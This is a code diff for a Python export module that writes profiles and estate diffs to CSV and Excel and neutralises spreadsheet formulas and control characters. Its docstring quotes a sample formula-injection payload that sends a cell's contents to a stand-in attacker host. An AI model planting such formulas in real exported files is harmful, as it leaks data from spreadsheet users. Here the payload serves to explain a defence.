@@ -1,4 +1,5 @@
-"""Tables to files: the profiles as CSV, the estate's four tables as an Excel workbook.
+"""Tables to files: the profiles as CSV, the estate's four tables as an Excel workbook, a
+diff's changes as CSV (`diff_csv_frame`, which `iptoolkit diff --format csv` writes too).
 
 Names come from whoever configures the platform, and a spreadsheet runs a cell that starts
 with `=` as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")`). In `.xlsx`
@@ -14,15 +15,24 @@ import os
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
-from ..support.printable import drop_unprintable
+from ..support.printable import drop_unprintable, escape_unprintable
 from .attributes import redact_text
 
 if TYPE_CHECKING:
     import pandas
 
+    from ..change.estate_diff import EstateDiff
     from ..core.estate import Estate, FrameKind
 
-__all__ = ["write_csv", "write_xlsx", "SHEETS", "FORMULA_PREFIXES", "csv_safe", "csv_safe_frame"]
+__all__ = [
+    "write_csv",
+    "write_xlsx",
+    "diff_csv_frame",
+    "SHEETS",
+    "FORMULA_PREFIXES",
+    "csv_safe",
+    "csv_safe_frame",
+]
 
 SHEETS: tuple[FrameKind, ...] = ("profiles", "channels", "partners", "responses")
 _EXACT_IN_EXCEL = 2**53  # Excel keeps numbers as doubles
@@ -126,3 +136,15 @@ def _fit_columns(sheet: Any, frame: pandas.DataFrame) -> None:
         sample = [str(column), *(str(v) for v in frame[column].head(200).tolist())]
         width = min(max(len(text) for text in sample) + 2, 60)
         sheet.column_dimensions[get_column_letter(index)].width = width
+
+
+def diff_csv_frame(diff: EstateDiff, *, csv_safe: bool = True) -> pandas.DataFrame:
+    """The diff's frame as its CSV holds it: every text with its control characters as
+    escapes (an id's `\\r` or ESC), formulas neutralised when `csv_safe`. Values in a diff
+    are masked already (`change.estate_diff`)."""
+    frame = diff.to_frame()
+    for column in frame.columns:
+        frame[column] = frame[column].map(
+            lambda value: escape_unprintable(value) if isinstance(value, str) else value
+        )
+    return csv_safe_frame(frame) if csv_safe else frame
